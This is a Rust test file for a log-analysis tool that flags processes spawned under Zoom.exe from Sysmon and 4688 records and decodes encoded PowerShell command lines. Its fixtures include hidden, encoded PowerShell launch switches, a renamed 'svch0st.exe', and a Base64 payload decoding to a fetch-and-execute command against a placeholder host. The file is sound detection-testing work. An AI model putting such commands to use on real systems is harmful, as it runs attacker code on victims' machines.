//! How one start can be told: by two logs, two names of a host, other channels, odd clocks, deep trees.

use spawnscope::model::{Analysis, Process, StubReason};

use super::{
    AT, CMD, Case, EXPLORER, HELPER, POWERSHELL, ZOOM,
    bundle::{Form, Order, Rec, SURROGATE, audit, findings, judge, start},
    check, zoom,
};

fn child(image: &str) -> Rec {
    start(200, image, "10:00:00.000").by(100, ZOOM, AT)
}

#[test]
fn one_start_in_two_logs_is_one_finding() {
    let security = || audit(200, CMD, "10:00:00.003", 100);
    check(&[
        Case {
            name: "Sysmon and 4688",
            records: vec![zoom(), child(CMD), security().with("ParentProcessName", ZOOM)],
            findings: &["child cmd.exe/200 of 2 records"],
            links: &["cmd.exe/200 guid Zoom.exe/100"],
        },
        Case {
            name: "short name and FQDN",
            records: vec![
                zoom().host("PC2.corp.example"),
                child(CMD).host("PC2.corp.example"),
                security().host("pc2"),
            ],
            findings: &["child PC2.corp.example:cmd.exe/200 of 2 records"],
            links: &["PC2.corp.example:cmd.exe/200 guid PC2.corp.example:Zoom.exe/100"],
        },
        Case {
            name: "UtcTime off by hours",
            records: vec![
                zoom(),
                child(CMD).with("UtcTime", "2026-04-12 02:00:00.000"),
                security(),
            ],
            findings: &["child cmd.exe/200 of 2 records"],
            links: &["cmd.exe/200 guid Zoom.exe/100"],
        },
        Case {
            name: "a collector that stamped both records five seconds late",
            records: vec![
                zoom(),
                child(CMD).with("CommandLine", "cmd /c ver").written("10:00:04.500"),
                audit(200, CMD, "10:00:05.030", 100).with("CommandLine", "cmd /c ver"),
            ],
            findings: &["child cmd.exe/200 of 2 records"],
            links: &["cmd.exe/200 guid Zoom.exe/100"],
        },
        Case {
            name: "UtcTime of the parent off by hours, the child known by id",
            records: vec![zoom().with("UtcTime", "2026-04-12 18:00:00.000"), security()],
            findings: &["child cmd.exe/200"],
            links: &["cmd.exe/200 pid Zoom.exe/100"],
        },
        Case {
            name: "two starts of one image under one id, an hour apart",
            records: vec![
                zoom(),
                child(CMD),
                audit(200, CMD, "11:00:00.000", 100).with("ParentProcessName", EXPLORER),
            ],
            findings: &["child cmd.exe/200"],
            links: &["cmd.exe/200 guid Zoom.exe/100", "cmd.exe/200 stub explorer.exe/100"],
        },
        Case {
            name: "the same record twice",
            records: vec![zoom(), child(CMD), child(CMD)],
            findings: &["child cmd.exe/200 of 2 records"],
            links: &["cmd.exe/200 guid Zoom.exe/100"],
        },
    ]);
}

#[test]
fn a_sysmon_start_without_its_process_id_is_known_by_what_others_say_of_it() {
    let bare = |record: Rec| record.without("ProcessId");
    let security = |clock, line| {
        audit(200, CMD, clock, 100).with("ParentProcessName", ZOOM).with("CommandLine", line)
    };
    check(&[
        Case {
            name: "by the 4688 of the start",
            records: vec![zoom(), bare(child(CMD)), security("10:00:01.800", CMD)],
            findings: &["child cmd.exe/200 of 2 records"],
            links: &["cmd.exe/200 guid Zoom.exe/100"],
        },
        Case {
            name: "two starts, each by the nearer 4688",
            records: vec![
                zoom(),
                bare(child(CMD)),
                bare(start(201, CMD, "10:00:02.000").by(100, ZOOM, AT)),
                security("10:00:00.400", CMD),
                security("10:00:02.400", CMD).with("NewProcessId", "0xc9"),
            ],
            findings: &["child cmd.exe/200 of 2 records", "child cmd.exe/201 of 2 records"],
            links: &["cmd.exe/200 guid Zoom.exe/100", "cmd.exe/201 guid Zoom.exe/100"],
        },
        Case {
            name: "not by a 4688 with another command line",
            records: vec![zoom(), bare(child(CMD)), security("10:00:00.400", "cmd /c ver")],
            findings: &["child cmd.exe/200", "child cmd.exe/?"],
            links: &["cmd.exe/200 pid Zoom.exe/100", "cmd.exe/? guid Zoom.exe/100"],
        },
        Case {
            name: "by its child",
            records: vec![
                zoom(),
                bare(child(CMD)),
                start(300, POWERSHELL, "10:01:00.000").by(200, CMD, "10:00:00.000"),
            ],
            findings: &["child cmd.exe/200", "descendant powershell.exe/300"],
            links: &["cmd.exe/200 guid Zoom.exe/100", "powershell.exe/300 guid cmd.exe/200"],
        },
        Case {
            name: "Zoom by its child, and then a child by its id",
            records: vec![bare(zoom()), child(CMD), audit(300, POWERSHELL, "10:01:00.000", 100)],
            findings: &["child cmd.exe/200", "child powershell.exe/300"],
            links: &["cmd.exe/200 guid Zoom.exe/100", "powershell.exe/300 pid Zoom.exe/100"],
        },
    ]);
}

#[test]
fn a_forwarded_record_counts_as_one_of_its_own_log() {
    let forwarded = |record: Rec| record.channel("ForwardedEvents");
    check(&[
        Case {
            name: "Sysmon",
            records: vec![forwarded(zoom()), forwarded(child(CMD))],
            findings: &["child cmd.exe/200"],
            links: &["cmd.exe/200 guid Zoom.exe/100"],
        },
        Case {
            name: "4688",
            records: vec![
                forwarded(audit(100, ZOOM, AT, 90)),
                forwarded(audit(200, CMD, "10:00:00.000", 100)),
            ],
            findings: &["child cmd.exe/200"],
            links: &["Zoom.exe/100 stub ?/90", "cmd.exe/200 pid Zoom.exe/100"],
        },
        Case {
            name: "4688 with the parent's name",
            records: vec![
                forwarded(audit(200, CMD, "10:00:00.000", 100)).with("ParentProcessName", ZOOM),
            ],
            findings: &["child cmd.exe/200"],
            links: &["cmd.exe/200 stub Zoom.exe/100"],
        },
    ]);
}

#[test]
fn depth_decides_between_child_and_descendant() {
    let helper = || start(150, HELPER, "09:30:00.000").by(100, ZOOM, AT);
    check(&[
        Case {
            name: "two and three below",
            records: vec![
                zoom(),
                helper(),
                start(200, CMD, "10:00:00.000").by(150, HELPER, "09:30:00.000"),
                start(300, POWERSHELL, "10:01:00.000").by(200, CMD, "10:00:00.000"),
            ],
            findings: &["descendant cmd.exe/200", "descendant powershell.exe/300"],
            links: &[
                "CptHost.exe/150 guid Zoom.exe/100",
                "cmd.exe/200 guid CptHost.exe/150",
                "powershell.exe/300 guid cmd.exe/200",
            ],
        },
        Case {
            name: "a child and its child",
            records: vec![
                zoom(),
                child(CMD),
                start(300, POWERSHELL, "10:01:00.000").by(200, CMD, "10:00:00.000"),
            ],
            findings: &["child cmd.exe/200", "descendant powershell.exe/300"],
            links: &["cmd.exe/200 guid Zoom.exe/100", "powershell.exe/300 guid cmd.exe/200"],
        },
        Case {
            name: "below a Zoom without a record",
            records: vec![
                helper(),
                start(200, CMD, "10:00:00.000").by(150, HELPER, "09:30:00.000"),
            ],
            findings: &["descendant cmd.exe/200"],
            links: &["CptHost.exe/150 stub Zoom.exe/100", "cmd.exe/200 guid CptHost.exe/150"],
        },
        Case {
            name: "Zoom under Zoom",
            records: vec![
                start(90, ZOOM, "08:59:00.000"),
                zoom().by(90, ZOOM, "08:59:00.000"),
                child(CMD),
            ],
            findings: &["child cmd.exe/200"],
            links: &["Zoom.exe/100 guid Zoom.exe/90", "cmd.exe/200 guid Zoom.exe/100"],
        },
        Case {
            name: "below by 4688 alone",
            records: vec![
                audit(100, ZOOM, AT, 90),
                audit(150, HELPER, "09:30:00.000", 100),
                audit(200, CMD, "10:00:00.000", 150),
            ],
            findings: &["descendant cmd.exe/200"],
            links: &[
                "CptHost.exe/150 pid Zoom.exe/100",
                "Zoom.exe/100 stub ?/90",
                "cmd.exe/200 pid CptHost.exe/150",
            ],
        },
        Case {
            name: "a helper that no record tells of parts the line",
            records: vec![zoom(), start(200, CMD, "10:00:00.000").by(150, HELPER, "09:30:00.000")],
            findings: &[],
            links: &["cmd.exe/200 stub CptHost.exe/150"],
        },
    ]);
}

/// The only process of this id.
fn process(analysis: &Analysis, pid: u32) -> &Process {
    let mut found = analysis.tree.processes.iter().filter(|process| process.pid == Some(pid));
    let first = found.next().unwrap();
    assert!(found.next().is_none(), "two of {pid}");
    first
}

/// The bundle in every form and order.
fn all(records: &[Rec]) -> impl Iterator<Item = Analysis> + '_ {
    Form::ALL.into_iter().flat_map(move |form| {
        [Order::Straight, Order::Shuffled].map(|order| judge(records, form, order))
    })
}

#[test]
fn a_zoom_without_a_record_says_why() {
    let before = [child(CMD)];
    let within = [start(90, EXPLORER, "08:00:00.000"), child(CMD)];
    for (records, reason) in
        [(before.as_slice(), StubReason::BeforeLogs), (within.as_slice(), StubReason::NotLogged)]
    {
        for analysis in all(records) {
            let zoom = process(&analysis, 100);
            assert_eq!(zoom.stub, Some(reason));
            assert_eq!(zoom.image.as_deref(), Some(ZOOM));
            assert_eq!(zoom.start.unwrap().to_string(), "2026-04-12T09:00:00Z");
        }
    }
}

#[test]
fn a_command_line_is_kept_as_logged_and_nothing_stands_for_none() {
    for (logged, expected) in [
        (Some(""), None),
        (Some("-"), None),
        (None, None),
        (Some("cmd.exe /c echo %%1234"), Some("cmd.exe /c echo %%1234")),
        (Some("cmd.exe /c ver\0"), Some("cmd.exe /c ver")),
    ] {
        let security = audit(200, CMD, "10:00:00.000", 100).with("ParentProcessName", ZOOM);
        let security = match logged {
            Some(text) => security.with("CommandLine", text),
            None => security,
        };
        for analysis in all(&[security]) {
            assert_eq!(findings(&analysis), ["child cmd.exe/200"], "{logged:?}");
            assert_eq!(process(&analysis, 200).command_line.as_deref(), expected, "{logged:?}");
        }
    }
}

#[test]
fn a_missing_command_line_of_sysmon_is_filled_from_the_4688_of_the_start() {
    let records = [
        zoom(),
        child(CMD).without("CommandLine"),
        audit(200, CMD, "10:00:00.003", 100).with("CommandLine", "cmd.exe /c ver"),
    ];
    for analysis in all(&records) {
        assert_eq!(process(&analysis, 200).command_line.as_deref(), Some("cmd.exe /c ver"));
    }
}

#[test]
fn text_that_is_no_text_loses_no_child() {
    let odd = format!("cmd.exe /c {SURROGATE} \0 \u{202e}exe.gpj");
    for analysis in all(&[zoom(), child(CMD).with("CommandLine", &odd)]) {
        assert_eq!(findings(&analysis), ["child cmd.exe/200"]);
        assert!(process(&analysis, 200).command_line.as_deref().unwrap().starts_with("cmd.exe /c"));
    }
    let odd = format!("C:\\{SURROGATE}\\Zoom.exe");
    for analysis in all(&[start(200, CMD, "10:00:00.000").by(100, &odd, AT)]) {
        assert_eq!(findings(&analysis), ["child cmd.exe/200"]);
    }
}

/// `whoami` in UTF-16LE as Base64: 77 00 68 00 6f 00 61 00 6d 00 69 00.
const WHOAMI: &str = "dwBoAG8AYQBtAGkA";

#[test]
fn every_spelling_of_an_encoded_command_ends_in_its_text() {
    for switch in [
        "-enc",
        "-e",
        "-ec",
        "-EncodedCommand",
        "-eNcOdEdC",
        "/enc",
        "-en",
        "\u{2013}enc",
        "\u{2014}e",
        "\u{2015}enc",
        "-nop -w hidden -enc",
        "--enc",
    ] {
        for quote in ["", "\""] {
            let line = format!("powershell.exe {switch} {quote}{WHOAMI}{quote}");
            let records = [zoom(), child(POWERSHELL).with("CommandLine", &line)];
            let analysis = judge(&records, Form::Attributes, Order::Straight);
            let decoding = process(&analysis, 200).decoding.clone().unwrap();
            assert_eq!(decoding.last_text(), Some("whoami"), "{line}");
        }
    }
    let through_cmd = format!("cmd.exe /c powershell -e {WHOAMI}");
    let renamed = format!("svch0st.exe -e {WHOAMI}");
    for (image, original, line) in
        [(CMD, "Cmd.Exe", through_cmd), (r"C:\Temp\svch0st.exe", "PowerShell.EXE", renamed)]
    {
        let child = child(image).with("OriginalFileName", original).with("CommandLine", &line);
        for analysis in all(&[zoom(), child]) {
            let decoding = process(&analysis, 200).decoding.clone().unwrap();
            assert_eq!(decoding.last_text(), Some("whoami"), "{line}");
            assert_eq!(findings(&analysis).len(), 2, "child and command line: {line}");
        }
    }
}

#[test]
fn an_encoded_command_of_a_4688_is_judged_by_its_text() {
    // IEX (iwr http://x.example/a)
    let payload = "SQBFAFgAIAAoAGkAdwByACAAaAB0AHQAcAA6AC8ALwB4AC4AZQB4AGEAbQBwAGwAZQAvAGEAKQA=";
    let records = [
        audit(100, ZOOM, AT, 90),
        audit(200, POWERSHELL, "10:00:00.000", 100)
            .with("CommandLine", &format!("powershell -encod {payload}")),
    ];
    for analysis in all(&records) {
        let expected = ["child powershell.exe/200", "commandline powershell.exe/200"];
        assert_eq!(findings(&analysis), expected);
        let decoding = process(&analysis, 200).decoding.clone().unwrap();
        assert_eq!(decoding.last_text(), Some("IEX (iwr http://x.example/a)"));
    }
}
